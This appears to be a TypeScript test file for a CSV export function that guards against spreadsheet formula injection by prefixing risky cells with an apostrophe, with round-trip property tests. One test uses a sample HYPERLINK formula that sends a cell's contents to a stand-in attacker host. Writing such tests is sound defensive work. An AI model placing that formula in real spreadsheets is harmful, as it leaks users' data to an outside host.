import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRows } from './csv-rows.js';
import { FORMULA_QUOTING, NUMBER_QUOTING } from './spreadsheet-quote.js';

// cells with the characters that decide quoting, among others (the spreadsheet formula characters too)
const cellText = fc.string({
  unit: fc.constantFrom('a', 'Z', ' ', ',', '"', '\r', '\n', ';', "'", 'é', '=', '', '+', '-', '@', '\t', '1', '('),
});
const rows = fc.array(fc.array(cellText, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 });
const sameWidth = rows.map((all) => all.map((row) => [...row, ...Array(6 - row.length).fill('')]));

describe('csvRows', () => {
  it('writes what csv-stringify writes for the same cells, each text cell quoted for spreadsheets first', () => {
    fc.assert(
      fc.property(rows, (generated) => {
        expect(csvRows(generated, FORMULA_QUOTING)).toBe(stringify(generated.map((row) => row.map(FORMULA_QUOTING.quote))));
      }),
      { numRuns: 500 },
    );
  });

  it('reads back through csv-parse and the import’s unquote as the same cells, for either quoting', () => {
    for (const quoting of [FORMULA_QUOTING, NUMBER_QUOTING]) {
      fc.assert(
        fc.property(sameWidth, (generated) => {
          const read = (parse(csvRows(generated, quoting), { relax_column_count: false }) as string[][]).map((row) =>
            row.map(quoting.unquote),
          );
          expect(read).toEqual(generated);
        }),
        { numRuns: 500 },
      );
    }
  });

  it('quotes only the cells that need it', () => {
    expect(csvRows([['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\r', '']], FORMULA_QUOTING)).toBe(
      'plain,"a,b","say ""hi""","two\nlines","cr\r",\n',
    );
  });

  it('puts an apostrophe before text a spreadsheet would run, never before a number', () => {
    const hyperlink = '=HYPERLINK("http://evil.test/?x="&A1,"click")';
    expect(csvRows([[hyperlink, '+1 555', '-x', '@SUM(A1)', '\tx', 'ok', -5, 12.5, 0]], FORMULA_QUOTING)).toBe(
      `"'=HYPERLINK(""http://evil.test/?x=""&A1,""click"")",'+1 555,'-x,'@SUM(A1),'\tx,ok,-5,12.5,0\n`,
    );
    // text the import would read as quoted gets one more, so the import gives it back as it was
    expect(csvRows([["'=x", "''-y", "'plain", "'90s"]], FORMULA_QUOTING)).toBe("''=x,'''-y,'plain,'90s\n");
    // Shopify's customer and order files: an apostrophe before a digit or ( is Shopify's own quote too
    expect(csvRows([["'90s", '02928', "'(613)"]], NUMBER_QUOTING)).toBe("''90s,02928,''(613)\n");
  });
});
